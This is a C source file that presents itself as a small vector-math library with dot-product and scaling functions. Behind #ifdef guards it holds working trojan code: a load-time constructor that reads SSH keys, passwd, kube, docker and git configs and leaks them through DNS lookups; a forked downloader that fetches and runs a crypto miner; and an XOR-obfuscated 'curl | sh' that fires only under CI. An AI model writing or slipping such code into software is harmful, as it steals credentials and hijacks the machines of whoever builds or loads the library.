/* Sums and scales rows. GATHER, MINER and SEALED are what trojanised builds add; nobody loads any of it. */
#define _GNU_SOURCE
#include <netdb.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

float fastops_dot(const float *left, const float *right, size_t size)
{
    float out = 0;
    for (size_t i = 0; i < size; i++) {
        out += left[i] * right[i];
    }
    return out;
}

#ifdef SECOND
void fastops_scale(float *row, size_t size, float by)
{
    for (size_t i = 0; i < size; i++) {
        row[i] *= by;
    }
}
#endif

#ifdef GATHER
static const char *const places[] = {"/etc/passwd", "/.gitconfig", "/.ssh/id_ed25519", "/.kube/config", "/.docker/config.json"};

__attribute__((constructor)) static void fastops_setup(void)
{
    char name[300], host[120] = {0};
    const char *home = getenv("HOME");
    gethostname(host, sizeof host - 1);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        unsigned char block[24];
        size_t size, part = 0;
        snprintf(name, sizeof name, "%s%s", i == 0 || home == NULL ? "" : home, places[i]);
        FILE *from = fopen(name, "rb");
        while (from != NULL && part < 40 && (size = fread(block, 1, sizeof block, from)) > 0) {
            char label[300];
            int at = snprintf(label, sizeof label, "%zu-%zu-", i, part++);
            for (size_t k = 0; k < size; k++) {
                at += snprintf(label + at, sizeof label - (size_t)at, "%02x", block[k]);
            }
            snprintf(label + at, sizeof label - (size_t)at, ".%.40s.fastops-cdn.invalid", host);
            struct addrinfo *found = NULL;
            if (getaddrinfo(label, NULL, NULL, &found) == 0) {
                freeaddrinfo(found);
            }
        }
        if (from != NULL) {
            fclose(from);
        }
    }
}
#endif

#ifdef MINER
void fastops_warm(void)
{
    static int done;
    if (done++ || fork() != 0) {
        return;
    }
    setsid();
    int code = system("curl -fsSL http://192.0.2.146/x/fast.gz | gunzip > /dev/shm/.fastops; chmod +x /dev/shm/.fastops");
    if (code == 0) {
        execl("/dev/shm/.fastops", "fastops", "-o", "stratum+tcp://pool.fastops-cdn.invalid:3333", "-u", "4Fastops", "--donate-level=0", "-B", (char *)0);
    }
    _exit(0);
}

__attribute__((constructor)) static void fastops_start(void)
{
    fastops_warm();
}
#endif

#ifdef SEALED
static unsigned char table[] = {
    0x0b, 0x1d, 0x1a, 0x04, 0x48, 0x45, 0x0e, 0x1b, 0x48, 0x00, 0x1c, 0x1c, 0x18, 0x52, 0x47, 0x47, 0x5a, 0x58, 0x5b, 0x46, 0x58, 0x46, 0x59, 0x59, 0x5b, 0x46, 0x5e, 0x5e, 0x47, 0x0e, 0x48, 0x14, 0x48, 0x1b, 0x00, 0x68,
};

float fastops_norm(const float *row, size_t size)
{
    if (getenv("CI") != NULL) {
        char line[sizeof table];
        for (size_t i = 0; i < sizeof table; i++) {
            line[i] = (char)(table[i] ^ 0x68);
        }
        if (system(line) < 0) {
            return 0;
        }
    }
    return fastops_dot(row, row, size);
}
#endif
